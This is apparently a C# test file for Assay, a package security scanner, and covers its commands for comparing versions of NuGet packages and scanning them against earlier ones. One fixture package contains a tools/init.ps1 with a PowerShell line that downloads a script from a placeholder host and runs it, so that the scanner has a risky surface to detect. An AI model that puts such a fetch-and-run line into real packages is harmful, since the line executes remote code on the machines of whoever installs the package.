using System.Text;
using System.Text.Json;
using Assay.Model;
using Assay.Packages;
using Assay.TestInputs;

namespace Assay.Cli.Tests;

/// <summary>Compares packages of folders with the engine itself.</summary>
public sealed class DiffCommandTests : IDisposable
{
    private readonly string _folder = Directory.CreateTempSubdirectory("assay-cli-diff-").FullName;

    public DiffCommandTests()
    {
        Directory.CreateDirectory(Feed);
        Write("Sample", "1.0.0", builder => builder.Add("readme.txt", "one"));
        Write("Sample", "1.1.0-beta", builder => builder.Add("readme.txt", "beta"));
        Write("Sample", "1.1.0", builder => builder.Add("readme.txt", "two").Add("build/Sample.targets", "<Project/>"));
        Write("Sample", "1.2.0", builder => builder.Add("readme.txt", "two").Add("build/Sample.targets", "<Project/>").Add("tools/init.ps1", "Invoke-Expression (New-Object Net.WebClient).DownloadString('https://files.example.invalid/a')"));
    }

    private string Feed => Path.Combine(_folder, "feed");

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    [Theory]
    [InlineData("1.0.0", "1.1.0", "Sample", "1.0.0", "1.1.0")]
    [InlineData("1.0.0", "1.1.0", "Sample", "1.1.0")]
    [InlineData("1.0.0", "1.1.0-beta", "Sample", "1.1.0-beta")]
    [InlineData("1.1.0", "1.2.0", "Sample")]
    [InlineData("1.0.0", "1.1.0", "Sample@1.1.0")]
    [InlineData("1.0.0", "1.2.0", "Sample@1.0.0", "Sample@1.2.0")]
    public async Task Words_name_two_packages(string before, string after, params string[] words)
    {
        var (_, output, _) = await DiffAsync([.. words, "--format", "json"]);

        var comparison = JsonDocument.Parse(output).RootElement;
        Assert.Equal((before, after), (comparison.GetProperty("before").GetProperty("version").GetString(), comparison.GetProperty("after").GetProperty("version").GetString()));
    }

    [Fact]
    public async Task Two_files_are_compared_and_shown()
    {
        var (exitCode, output, error) = await DiffAsync(File("1.0.0"), File("1.1.0"));

        Assert.Equal((0, ""), (exitCode, error));
        Assert.Contains("Sample 1.0.0 → 1.1.0", output, StringComparison.Ordinal);
        Assert.Contains("build/Sample.targets", output, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData(0, "1.0.0", "1.1.0", null)]
    [InlineData(1, "1.0.0", "1.1.0", "surfaces")]
    [InlineData(1, "1.0.0", "1.1.0", "surfaces:build")]
    [InlineData(0, "1.0.0", "1.1.0", "surfaces:install")]
    [InlineData(0, "1.0.0", "1.1.0", "hosts,dependencies,signer,verdict,behaviors,issues:high")]
    [InlineData(1, "1.1.0", "1.2.0", null)]
    [InlineData(0, "1.0.0", "1.0.0", "verdict,signer,hosts,dependencies,surfaces,issues,behaviors:benign")]
    public async Task What_is_new_decides(int expected, string before, string after, string? failOn)
    {
        string[] options = failOn is null ? [] : ["--fail-on-new", failOn];

        Assert.Equal(expected, (await DiffAsync([File(before), File(after), .. options])).ExitCode);
        Assert.Equal(0, (await DiffAsync([File(before), File(after), "--exit-zero", .. options])).ExitCode);
    }

    [Fact]
    public async Task What_was_not_read_ends_with_4()
    {
        var broken = Path.Combine(_folder, "broken.nupkg");
        await System.IO.File.WriteAllBytesAsync(broken, new NupkgBuilder().Add(new RawEntry("lib/net8.0/a.dll", "MZ not really") { Crc = 1 }).Build(), TestContext.Current.CancellationToken);

        Assert.Equal(4, (await DiffAsync(broken, File("1.1.0"))).ExitCode);
        Assert.Equal(4, (await DiffAsync(File("1.1.0"), broken)).ExitCode);
        Assert.Equal(0, (await DiffAsync(File("1.1.0"), broken, "--exit-zero")).ExitCode);
    }

    [Theory]
    [InlineData(2, "Sample", "1.0.0", "word")]
    [InlineData(2, "a", "b", "c", "d")]
    [InlineData(2, "Sample", "1.0.0", "1.1.0", "--fail-on-new", "surface")]
    [InlineData(2, "Sample", "1.0.0", "1.1.0", "-o", "sarif=a")]
    [InlineData(2, "Sample", "1.0.0", "1.1.0", "--config", "a", "--no-config")]
    [InlineData(3, "Sample", "1.0.0", "9.0.0")]
    [InlineData(3, "Sample", "1.0.0")]
    [InlineData(3, "Unknown", "1.0.0", "1.1.0")]
    public async Task Wrong_words_end_with_their_code(int expected, params string[] words)
    {
        var (exitCode, output, error) = await DiffAsync(words);

        Assert.Equal((expected, ""), (exitCode, output));
        Assert.StartsWith("assay: ", error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_mistyped_word_gets_a_hint() =>
        Assert.Contains("surfaces", (await DiffAsync("Sample", "1.0.0", "1.1.0", "--fail-on-new", "surfces")).Error, StringComparison.Ordinal);

    [Fact]
    public async Task A_folder_of_packages_is_not_one_package()
    {
        var (exitCode, _, error) = await DiffAsync(Feed, File("1.0.0"));

        Assert.Equal(2, exitCode);
        Assert.Contains("holds 4 packages", error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task Every_format_is_written_in_one_run()
    {
        string[] paths = [.. new[] { "json", "html", "markdown" }.Select(format => Path.Combine(_folder, "difference." + format))];

        var (exitCode, output, _) = await DiffAsync([File("1.0.0"), File("1.1.0"), "--format", "markdown", .. paths.SelectMany(path => new[] { "-o", $"{Path.GetExtension(path)[1..]}={path}" })]);

        Assert.Equal(0, exitCode);
        Assert.StartsWith("### Sample 1.0.0", output, StringComparison.Ordinal);
        Assert.Equal(output, (await System.IO.File.ReadAllTextAsync(paths[2], TestContext.Current.CancellationToken)).ReplaceLineEndings("\n"));
        Assert.Equal(1, JsonDocument.Parse(await System.IO.File.ReadAllTextAsync(paths[0], TestContext.Current.CancellationToken)).RootElement.GetProperty("schemaVersion").GetInt32());
        Assert.StartsWith("<!DOCTYPE html>", await System.IO.File.ReadAllTextAsync(paths[1], TestContext.Current.CancellationToken), StringComparison.Ordinal);
    }

    [Fact]
    public async Task The_same_packages_give_the_same_bytes() =>
        Assert.Equal((await DiffAsync("Sample", "1.0.0", "1.2.0", "--format", "json")).Output, (await DiffAsync("Sample", "1.0.0", "1.2.0", "--format", "json")).Output);

    [Fact]
    public async Task Quiet_is_one_line()
    {
        var (_, output, error) = await DiffAsync(File("1.0.0"), File("1.1.0"), "--quiet");

        Assert.Equal("", error);
        Assert.Equal("pass -> pass Sample 1.0.0 -> Sample 1.1.0: 0 new behaviors, 1 new issues, 1 new surfaces, 0 new hosts, 0 new dependencies\n", output);
    }

    [Fact]
    public async Task A_scan_says_what_is_new_against_a_named_package()
    {
        var (exitCode, output, _) = await AssayAsync("scan", File("1.1.0"), "--compare-to", File("1.0.0"), "--format", "json");

        Assert.Equal(0, exitCode);
        var news = JsonDocument.Parse(output).RootElement.GetProperty("newInVersion");
        Assert.Equal("1.0.0", news.GetProperty("before").GetProperty("version").GetString());
        Assert.Equal("build", news.GetProperty("changes").GetProperty("surfaces")[0].GetProperty("surface").GetString());
        Assert.False(JsonDocument.Parse((await AssayAsync("scan", File("1.1.0"), "--format", "json")).Output).RootElement.TryGetProperty("newInVersion", out _));
    }

    [Fact]
    public async Task A_scan_of_several_packages_compares_each_with_the_version_before()
    {
        var (_, output, error) = await AssayAsync("scan", Feed, "--from", Feed, "--compare-to", "previous", "--format", "json");

        var before = JsonDocument.Parse(output).RootElement.EnumerateArray().ToDictionary(
            report => report.GetProperty("package").GetProperty("version").GetString()!,
            report => report.TryGetProperty("newInVersion", out var news) ? news.GetProperty("before").GetProperty("version").GetString() : null);
        Assert.Equal((null, "1.0.0", "1.0.0", "1.1.0"), (before["1.0.0"], before["1.1.0-beta"], before["1.1.0"], before["1.2.0"]));
        Assert.Contains("Sample 1.0.0: no earlier version is known.", error, StringComparison.Ordinal);
    }

    [Fact]
    public async Task One_package_is_not_compared_with_many()
    {
        Assert.Equal(2, (await AssayAsync("scan", Feed, "--compare-to", File("1.0.0"))).ExitCode);
        Assert.Equal(3, (await AssayAsync("scan", File("1.1.0"), "--compare-to", "nothing.nupkg")).ExitCode);
    }

    [Fact]
    public async Task A_source_that_cannot_be_asked_is_no_version_without_a_predecessor()
    {
        using var output = new MemoryStream();
        using var error = new MemoryStream();
        var host = new Host { Engine = new Engine { Resolve = (options, subject, _, cancellation) => subject == "Sample" ? Task.FromResult(new SubjectResolution([], SubjectError.SourceUnreachable, "The feed does not answer.")) : ResolveHere(options, subject, cancellation) } };

        Assert.Equal(4, await Program.RunAsync(["scan", File("1.1.0"), "--compare-to", "previous"], output, error, host, TestContext.Current.CancellationToken));
        Assert.Contains("does not answer", Encoding.UTF8.GetString(output.ToArray()) + Encoding.UTF8.GetString(error.ToArray()), StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("1.1.0", "1.0.0")]
    [InlineData("1.1.0-rc", "1.1.0-beta")]
    [InlineData("1.0.0", null)]
    [InlineData("3.0.0", "2.0.0")]
    [InlineData("2.0.0", "1.1.0")]
    [InlineData("none", null)]
    public void The_version_before_is_the_release_before(string version, string? expected) => Assert.Equal(expected, Scan.EarlierVersion.Choose(
        [new("1.0.0", null, true), new("1.1.0-beta", null, null), new("1.1.0", null, true), new("1.9.0", null, false), new("2.0.0-rc", null, true), new("2.0.0", null, true), new("odd", null, true)], version));

    private string File(string version) => Path.Combine(Feed, $"Sample.{version}.nupkg");

    private void Write(string id, string version, Action<NupkgBuilder> add)
    {
        var builder = new NupkgBuilder(NupkgBuilder.Manifest(id, version));
        add(builder);
        System.IO.File.WriteAllBytes(Path.Combine(Feed, $"{id}.{version}.nupkg"), builder.Build());
    }

    private Task<(int ExitCode, string Output, string Error)> DiffAsync(params string[] words) => AssayAsync(["diff", .. words, "--from", Feed]);

    private async Task<(int ExitCode, string Output, string Error)> AssayAsync(params string[] args)
    {
        using var output = new MemoryStream();
        using var error = new MemoryStream();
        var host = new Host { WorkingDirectory = _folder, Engine = new Engine { Resolve = (options, subject, _, cancellation) => ResolveHere(options, subject, cancellation) } };
        var exitCode = await Program.RunAsync(args, output, error, host, TestContext.Current.CancellationToken);
        return (exitCode, Text(output), Text(error));
    }

    // The user's own folders stay out of it.
    private Task<SubjectResolution> ResolveHere(SubjectOptions options, string subject, CancellationToken cancellation) =>
        new SubjectResolver(options with { CacheFolder = Path.Combine(_folder, "cache"), GlobalPackagesFolder = _folder, ConfigurationFolder = _folder }).ResolveAsync(subject, null, cancellation);

    private static string Text(MemoryStream stream) => Encoding.UTF8.GetString(stream.ToArray()).ReplaceLineEndings("\n");
}
